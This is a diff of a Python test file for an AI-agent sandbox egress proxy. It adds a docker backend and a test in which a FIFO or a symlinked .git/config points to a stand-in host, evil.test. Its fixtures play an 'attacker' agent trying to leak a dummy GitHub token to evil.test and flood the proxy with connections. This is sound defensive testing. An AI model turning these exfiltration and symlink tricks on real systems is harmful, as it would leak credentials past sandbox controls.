@@ -13,6 +13,7 @@ import json
 import os
 import socket
 import subprocess
+import threading
 import time
 from collections.abc import Iterator
 from dataclasses import dataclass
@@ -27,7 +28,9 @@ from guilds.limits import EGRESS_CONNECTIONS_MAX
 from guilds.record.store import Store
 from guilds.sandbox import get_sandbox
 from guilds.sandbox.bwrap_argv import unavailable
+from guilds.sandbox.docker_engine import unavailable as docker_unavailable
 from guilds.sandbox.egress_process import proxy_pid
+from guilds.sandbox.egress_side import bound_values, egress_files
 from guilds.toolbox import Toolbox
 
 pytestmark = pytest.mark.skipif(not netns_usable(), reason="needs root and ip netns for the test hosts")
@@ -35,7 +38,10 @@ pytestmark = pytest.mark.skipif(not netns_usable(), reason="needs root and ip ne
 TOKEN = "ghp_RealTokenThatMustStayOutside01"
 PLACEHOLDER = "GUILDS_PLACEHOLDER_000000000000001"
 SRC = Path(__file__).resolve().parent.parent / "src"
-NO_BWRAP = unavailable()
+BACKENDS = [
+    pytest.param("bwrap", id="bwrap", marks=pytest.mark.bwrap),
+    pytest.param("docker", id="docker", marks=pytest.mark.docker),
+]
 
 
 @dataclass
@@ -180,15 +186,15 @@ def test_many_open_connections_are_capped_at_the_limit(site):
             sock.connect(str(site.proxy.socket))
             sock.sendall(b"CONNECT git.test:443 HTTP/1.1\r\nX-Slow: " + b"x" * 1000)
             held.append(sock)
-        deadline = time.monotonic() + 10
+        deadline = time.monotonic() + 30
         while True:  # the proxy takes them in its own time
-            answer = raw_exchange(site.proxy.socket, b"", timeout=5)
+            answer = raw_exchange(site.proxy.socket, b"", timeout=1)
             if answer or time.monotonic() > deadline:
                 break
         assert answer.startswith(b"HTTP/1.1 503 guilds egress: "), answer
         assert f"{EGRESS_CONNECTIONS_MAX} connections".encode() in answer
         held.pop().close()
-        deadline = time.monotonic() + 10
+        deadline = time.monotonic() + 30
         while b"503" in answer.split(b"\r\n")[0] and time.monotonic() < deadline:
             answer = raw_exchange(site.proxy.socket, b"CONNECT unlisted.test:443 HTTP/1.1\r\n\r\n")
         assert b"unlisted.test:443 is not in agent.network" in answer.split(b"\r\n")[0], answer
@@ -197,7 +203,29 @@ def test_many_open_connections_are_capped_at_the_limit(site):
             sock.close()
 
 
-# --- from inside a bwrap sandbox, through shell ------------------------------------------
+@pytest.mark.parametrize("kind", ["fifo", "symlink"])
+def test_a_git_config_that_is_no_regular_file_gives_no_host_and_never_blocks(tmp_path, kind):
+    """The home is the agent's: the host reads its .git/config as a regular file only."""
+    git = tmp_path / "home" / "repos" / "work" / ".git"
+    git.mkdir(parents=True)
+    outside = tmp_path / "outside-config"
+    outside.write_text('[remote "origin"]\n\turl = https://evil.test/x.git\n')
+    if kind == "fifo":
+        os.mkfifo(git / "config")
+    else:
+        (git / "config").symlink_to(outside)
+    settings = parse_settings({"agent": {"home": str(tmp_path / "home"), "sandbox": "bwrap", "network": ["evil.test"]},
+                               "repos": {"work": {"path": "repos/work", "token": TOKEN}}}, tmp_path, env={})
+    found: list[dict] = []
+    reading = threading.Thread(target=lambda: found.append(
+        bound_values(settings, egress_files(str(tmp_path / "data"), "agent1"), str(tmp_path / "home"))), daemon=True)
+    reading.start()
+    reading.join(10)
+    assert found, "reading .git/config blocked"
+    assert found[0]["repos.work"].hosts == ()
+
+
+# --- from inside a bwrap or docker sandbox, through shell ---------------------------------
 RUN = "attack-run"
 FETCH = (
     "python3 -c 'import sys, urllib.request as u\n"
@@ -216,20 +244,22 @@ class Agent:
     home: Path
 
 
-@pytest.fixture
-async def agent(site, tmp_path, monkeypatch) -> Iterator[Agent]:
-    """A bwrap sandbox behind the proxy, its repository's origin git.test and its token
-    without token_hosts (the default: the origin's host)."""
-    if NO_BWRAP is not None:
-        pytest.skip(f"bwrap: {NO_BWRAP}")
+@pytest.fixture(params=BACKENDS)
+async def agent(request, site, tmp_path, monkeypatch) -> Iterator[Agent]:
+    """A sandbox behind the proxy, its repository's origin git.test and its token without
+    token_hosts (the default: the origin's host)."""
+    missing = (unavailable if request.param == "bwrap" else docker_unavailable)()
+    if missing is not None:
+        pytest.skip(f"{request.param}: {missing}")
     monkeypatch.setenv("SSL_CERT_FILE", str(site.root.pem))
     home = tmp_path / "home"
     repo = home / "repos" / "work"
     subprocess.run(["git", "init", "-q", str(repo)], check=True)
     subprocess.run(["git", "-C", str(repo), "remote", "add", "origin", "https://git.test/owner/repo.git"], check=True)
     settings = parse_settings({
-        "agent": {"id": "attacker", "home": str(home), "sandbox": "bwrap", "network": ["git.test", "evil.test",
-                                                                               f"{site.ns.address}/32"]},
+        "agent": {"id": f"attacker-{os.urandom(3).hex()}", "home": str(home), "sandbox": request.param,
+                  "network": ["git.test", "evil.test", f"{site.ns.address}/32"]},
+        "docker": {"memory": "512m"},
         "repos": {"work": {"path": "repos/work", "token": TOKEN}},
         "egress": {"resolve": {"git.test": site.ns.address, "evil.test": site.ns.address}},
     }, tmp_path, env={})
